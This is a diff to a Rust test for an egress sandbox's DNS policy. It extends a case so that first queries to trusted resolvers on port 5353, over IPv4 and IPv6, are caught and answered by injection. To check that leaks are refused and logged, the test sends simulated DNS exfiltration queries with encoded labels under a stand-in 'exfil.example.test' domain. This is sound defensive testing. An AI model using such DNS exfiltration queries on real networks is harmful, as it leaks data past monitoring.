@@ -197,27 +197,29 @@ fn glibc_with_an_ipv6_nameserver_is_gated_from_the_first_lookup() {
     r.log().expect("2001:db8:53::53", 53, &[("reason", s("denied-dns-name")), ("host", s(leak))]);
 }
 
-/// A trusted resolver on a port other than 53 (baddns.py on 5353): the
-/// socket hooks redirect only port 53 to the loopback sink, so a first
-/// query from an unconnected socket, and one from a connected IPv4 socket,
-/// are caught on egress instead, dropped and answered by injection. A
-/// refused name never reaches the resolver.
+/// Trusted resolvers on a port other than 53 (baddns.py on 5353, IPv4 and
+/// IPv6): the socket hooks redirect only port 53 (the loopback sink, the
+/// IPv4 placeholder), so a first query from an unconnected socket, and one
+/// from a connected socket of either family, is caught on egress instead,
+/// dropped and answered by injection. A refused name never reaches the
+/// resolver.
 #[test]
 fn first_queries_to_a_resolver_on_another_port_are_caught() {
     if !require_root() {
         return;
     }
-    let bench = Bench::builder().bad_dns(true).bad_dns_port(5353).start().unwrap();
+    let bench = Bench::builder().bad_dns(true).bad_dns_port(5353).bad_dns_v6(true).start().unwrap();
     let policy = "
 egress:
   - toFQDNs: [{matchName: ok.example.test}]
     ports: [{port: 443}]
 dns:
-  servers: [\"198.51.100.54:5353\"]
+  servers: [\"198.51.100.54:5353\", \"[2001:db8:100::54]:5353\"]
 ";
-    for flags in ["--unconnected", ""] {
-        let leak = format!("mfrggzdfmztwq2lk.p5353{}.exfil.example.test", flags.len());
-        let dnsq = |name: &str| format!("$PY $DNSQ 198.51.100.54 {name} --port 5353 {flags} --wait 0.2");
+    let cases = [("198.51.100.54", "--unconnected"), ("198.51.100.54", ""), ("2001:db8:100::54", ""), ("2001:db8:100::54", "--unconnected")];
+    for (n, (resolver, flags)) in cases.into_iter().enumerate() {
+        let leak = format!("mfrggzdfmztwq2lk.p5353c{n}.exfil.example.test");
+        let dnsq = |name: &str| format!("$PY $DNSQ {resolver} {name} --port 5353 {flags} --wait 0.2");
         let r = Exec::new(&bench).policy(policy).steps(&[
             ("leak", &dnsq(&leak)),
             ("allowed", &dnsq("ok.example.test")),
@@ -225,12 +227,12 @@ dns:
         ]);
         r.outcome.expect_code(0);
         for (step, rcode) in [("leak", 3), ("allowed", 0)] {
-            answered(&r, step, rcode, &format!("port 5353 {flags}"));
+            answered(&r, step, rcode, &format!("{resolver}:5353 {flags}"));
         }
-        assert_eq!(r.sock("connect")["ok"], true, "{flags}: learned from the caught answer");
+        assert_eq!(r.sock("connect")["ok"], true, "{resolver} {flags}: learned from the caught answer");
         let log = std::fs::read_to_string(bench.bad_dns_log_path().unwrap()).unwrap();
-        assert!(!log.contains(&leak), "{flags}: a refused first query reached the resolver:\n{log}");
-        assert!(log.contains("query ok.example.test"), "{flags}: allowed queries do reach it:\n{log}");
-        r.log().expect("198.51.100.54", 5353, &[("reason", s("denied-dns-name")), ("host", s(&leak))]);
+        assert!(!log.contains(&leak), "{resolver} {flags}: a refused first query reached the resolver:\n{log}");
+        assert!(log.contains("query ok.example.test"), "{resolver} {flags}: allowed queries do reach it:\n{log}");
+        r.log().expect(resolver, 5353, &[("reason", s("denied-dns-name")), ("host", s(&leak))]);
     }
 }
